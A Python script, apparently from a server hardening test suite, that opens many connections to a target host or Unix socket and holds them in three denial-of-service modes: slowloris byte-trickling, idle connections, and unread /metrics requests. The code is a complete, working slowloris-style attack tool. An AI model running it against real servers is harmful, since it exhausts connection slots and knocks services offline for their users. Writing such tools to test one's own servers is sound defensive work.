#!/usr/bin/env python3
"""Hostile HTTP clients for the hardening suite: holds TARGET's connection slots the ways a
local user could, until STOPFILE exists or LIMIT seconds pass.

  http_attack.py MODE TARGET N READYFILE STOPFILE [LIMIT]

TARGET is host:port or unix:PATH. MODE:
  trickle  each connection sends a request one byte a second, never finishing it (slowloris);
           what the server closes is reopened at once
  idle     N connections that send nothing (those the server closes stay closed)
  noread   each connection asks for /metrics with a tiny receive buffer and never reads (not
           reopened either: the point is what they hold while open)
READYFILE gets one line "N opened=... sent=..." once all N connections are open and each has
sent its first byte (idle: once all are open); it is rewritten with the totals at the end.
"""
import os
import resource
import select
import socket
import sys
import time

mode, target, n, ready, stop = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
limit = float(sys.argv[6]) if len(sys.argv) > 6 else 60.0

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000


def connect():
    if target.startswith("unix:"):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        addr = target[5:]
    else:
        host, port = target.rsplit(":", 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        addr = (host, int(port))
        if mode == "noread":
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(2)
    s.connect(addr)
    s.setblocking(False)
    return s


conns = {}  # socket -> bytes of REQUEST sent
opened = sent = 0
announced = False
end = time.time() + limit
last_tick = 0.0


def open_one():
    global opened, sent
    try:
        s = connect()
    except OSError:
        return
    opened += 1
    conns[s] = 0
    if mode == "noread":
        try:
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")
            sent += 1
            conns[s] = 1
        except OSError:
            pass


def write_ready(final=False):
    with open(ready + ".tmp", "w") as f:
        f.write("%d opened=%d sent=%d%s\n" % (n, opened, sent, " final" if final else ""))
    os.rename(ready + ".tmp", ready)


while time.time() < end and not os.path.exists(stop):
    while len(conns) < n and opened < (1 << 30 if mode == "trickle" else n) and \
            time.time() < end and not os.path.exists(stop):
        open_one()
    now = time.time()
    if mode == "trickle" and now - last_tick >= 1.0:
        last_tick = now
        for s in list(conns):
            try:
                s.send(REQUEST[conns[s] : conns[s] + 1])
                conns[s] += 1
                sent += 1
            except OSError:
                pass
    if not announced and len(conns) == n and (mode == "idle" or all(conns.values())):
        write_ready()
        announced = True
    # Drop what the server closed (readable with EOF or an error); the loop reopens it. poll,
    # not select: thousands of descriptors.
    p = select.poll()
    byfd = {}
    for s in conns:
        p.register(s, select.POLLIN)
        byfd[s.fileno()] = s
    for fd, _ in p.poll(50):
        s = byfd[fd]
        try:
            if mode == "noread":
                continue  # never read: the point
            if s.recv(65536):
                continue
        except OSError:
            pass
        s.close()
        del conns[s]
write_ready(final=True)
